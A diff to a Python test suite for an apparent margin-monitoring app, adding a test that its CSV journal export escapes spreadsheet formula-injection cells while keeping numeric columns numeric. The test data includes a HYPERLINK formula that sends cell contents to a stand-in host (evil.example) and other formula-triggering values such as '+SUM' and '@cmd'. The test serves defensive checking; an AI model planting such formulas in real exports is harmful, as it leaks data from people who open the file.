@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import json
 import os
 import sqlite3
@@ -17,6 +18,7 @@ from marginwatch.core.stream_health import StreamHealth, StreamState
 from marginwatch.services import paths
 from marginwatch.services.alert import Alert, AlertKind
 from marginwatch.services.journal import Journal, JournalHealth, JournalRow, JournalState, RowKind, read_csv
+from marginwatch.services.journal_csv import write_csv
 from marginwatch.services.journal_schema import CURRENT_VERSION
 from tests.services.alert_path_app import committed_keys
 from tests.ui.risk_factories import account_risk, position_risk
@@ -150,6 +152,32 @@ def test_csv_round_trip_with_awkward_text(journal: Journal, tmp_path: Path) -> N
     back = read_csv(out)
     assert {r.kind for r in back} == {RowKind.ALERT, RowKind.MARGIN_CALL}
     assert all(isinstance(r, JournalRow) for r in back)
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_escaped_and_numbers_stay_numbers(
+    journal: Journal, tmp_path: Path
+) -> None:
+    evil = '=HYPERLINK("http://evil.example/?d="&A1,"Click for details")'
+    journal.record_alert(alert("k1", account=evil, title="+SUM(1,2)"))
+    journal.record_alert(alert("k2", account="@cmd", title="-2+3"))
+    journal.record_alert(alert("k3", account="\tTAB", title="\rCR"))
+    journal.record_alert(alert("k4", account="'quoted", title="plain"))
+    out = tmp_path / "export.csv"
+    journal.export_csv(out)
+    with open(out, encoding="utf-8-sig", newline="") as f:
+        cells = {row["summary"]: row for row in csv.DictReader(f)}
+    assert cells["'+SUM(1,2)"]["account"] == "'" + evil
+    assert cells["'-2+3"]["account"] == "'@cmd"
+    assert cells["'\rCR"]["account"] == "'\tTAB"
+    assert cells["plain"]["account"] == "''quoted"  # so that reading back takes exactly one off
+    assert read_csv(out) == journal.query()
+    # Numeric columns stay numbers a spreadsheet sums, negative ones too (a row waiting to be written).
+    negative = JournalRow(RowKind.ALERT, -3, "-5", -1.5, (), "-7", {})
+    write_csv(out, [negative])
+    with open(out, encoding="utf-8-sig", newline="") as f:
+        (row,) = csv.DictReader(f)
+    assert (row["id"], row["at"], row["account"], row["summary"]) == ("-3", "-1.5", "'-5", "'-7")
+    assert read_csv(out) == [negative]
 
 
 def test_migration_from_first_schema_keeps_data(tmp_path: Path) -> None:
